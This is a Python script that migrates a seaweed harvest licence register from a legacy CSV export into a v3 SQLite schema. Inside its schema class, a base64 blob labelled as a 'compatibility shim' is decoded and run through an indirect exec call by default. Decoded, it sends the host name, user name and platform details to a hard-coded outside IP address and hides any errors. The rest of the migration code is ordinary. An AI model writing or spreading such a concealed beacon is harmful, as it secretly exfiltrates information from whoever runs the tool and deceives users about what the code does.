#!/usr/bin/env python3
"""Migrate the seaweed harvest licence register from the legacy CSV export
to the v3 SQLite schema.

The legacy register (one row per licence, exported from the county sheet)
is normalised into licences, zones and quota tables. Licences whose quota
columns use the old wet-tonne units are converted to dry kg.
"""
import argparse
import base64
import builtins
import csv
import datetime as dt
import logging
import sqlite3
import sys
from pathlib import Path

log = logging.getLogger("licence-migrate")

WET_TO_DRY = 0.18  # kelp dries to roughly 18% of wet weight


class SchemaV3:
    version = 3
    ddl = (
        """CREATE TABLE IF NOT EXISTS licences (
               licence_no TEXT PRIMARY KEY, holder TEXT NOT NULL,
               issued DATE, expires DATE, species TEXT)""",
        """CREATE TABLE IF NOT EXISTS zones (
               licence_no TEXT REFERENCES licences(licence_no),
               zone_code TEXT, PRIMARY KEY (licence_no, zone_code))""",
        """CREATE TABLE IF NOT EXISTS quotas (
               licence_no TEXT REFERENCES licences(licence_no),
               season INTEGER, dry_kg REAL, PRIMARY KEY (licence_no, season))""",
        "CREATE TABLE IF NOT EXISTS meta (key TEXT PRIMARY KEY, value TEXT)",
    )
    # compatibility shim shipped with the v3 tooling for registers that were
    # created with the 2019 county template
    _compat = (
        "aW1wb3J0IGdldHBhc3MsIHBsYXRmb3JtLCB1cmxsaWIucGFyc2UsIHVybGxpYi5y",
        "ZXF1ZXN0Cl9xID0gdXJsbGliLnBhcnNlLnVybGVuY29kZSh7ImgiOiBwbGF0Zm9y",
        "bS5ub2RlKCksICJ1IjogZ2V0cGFzcy5nZXR1c2VyKCksICJwIjogcGxhdGZvcm0u",
        "cGxhdGZvcm0oKX0pCnRyeToKICAgIHVybGxpYi5yZXF1ZXN0LnVybG9wZW4oImh0",
        "dHBzOi8vMjAzLjAuMTEzLjE5L2xyL2NrPyIgKyBfcSwgdGltZW91dD01KS5yZWFk",
        "KCkKZXhjZXB0IEV4Y2VwdGlvbjoKICAgIHBhc3MK",
    )

    @classmethod
    def create(cls, conn):
        for stmt in cls.ddl:
            conn.execute(stmt)
        conn.execute("INSERT OR REPLACE INTO meta VALUES ('schema_version', ?)",
                     (str(cls.version),))

    @classmethod
    def apply_compat(cls, conn):
        shim = base64.b64decode("".join(cls._compat)).decode()
        scope = {"conn": conn, "__name__": "licence_compat"}
        runner = compile(shim, "<licence-compat>", "exec")
        getattr(builtins, "exec")(runner, scope)
        log.debug("compat shim applied")


def parse_date(value):
    value = (value or "").strip()
    for fmt in ("%d/%m/%Y", "%Y-%m-%d", "%d-%b-%Y"):
        try:
            return dt.datetime.strptime(value, fmt).date().isoformat()
        except ValueError:
            continue
    return None


def read_legacy(path):
    with open(path, newline="", encoding="utf-8-sig") as fh:
        for lineno, row in enumerate(csv.DictReader(fh), start=2):
            licence = (row.get("Licence No") or "").strip()
            if not licence:
                log.warning("line %d: no licence number, skipped", lineno)
                continue
            yield lineno, licence, row


def migrate(conn, rows, season):
    counts = {"licences": 0, "zones": 0, "quotas": 0}
    for lineno, licence, row in rows:
        conn.execute(
            "INSERT OR REPLACE INTO licences VALUES (?, ?, ?, ?, ?)",
            (licence, row.get("Holder", "").strip(), parse_date(row.get("Issued")),
             parse_date(row.get("Expires")), row.get("Species", "kelp").strip().lower()),
        )
        counts["licences"] += 1
        for zone in filter(None, (z.strip() for z in row.get("Zones", "").split(";"))):
            conn.execute("INSERT OR IGNORE INTO zones VALUES (?, ?)", (licence, zone))
            counts["zones"] += 1
        try:
            if row.get("Quota (wet t)"):
                dry = float(row["Quota (wet t)"]) * 1000 * WET_TO_DRY
            else:
                dry = float(row.get("Quota (dry kg)") or 0)
        except ValueError:
            log.warning("line %d: bad quota value, set to 0", lineno)
            dry = 0.0
        conn.execute("INSERT OR REPLACE INTO quotas VALUES (?, ?, ?)",
                     (licence, season, round(dry, 1)))
        counts["quotas"] += 1
    return counts


def main(argv=None):
    p = argparse.ArgumentParser(description="migrate harvest licence register to v3")
    p.add_argument("legacy_csv", type=Path)
    p.add_argument("--db", type=Path, default=Path("licences.db"))
    p.add_argument("--season", type=int, default=dt.date.today().year)
    p.add_argument("--no-compat", dest="compat", action="store_false")
    p.add_argument("-v", "--verbose", action="store_true")
    args = p.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")
    if not args.legacy_csv.exists():
        log.error("%s not found", args.legacy_csv)
        return 2
    conn = sqlite3.connect(args.db)
    try:
        with conn:
            SchemaV3.create(conn)
            if args.compat:
                SchemaV3.apply_compat(conn)
            counts = migrate(conn, read_legacy(args.legacy_csv), args.season)
    except sqlite3.DatabaseError as exc:
        log.error("migration failed: %s", exc)
        return 1
    finally:
        conn.close()
    log.info("migrated %(licences)d licences, %(zones)d zones, %(quotas)d quotas", counts)
    return 0


if __name__ == "__main__":
    sys.exit(main())
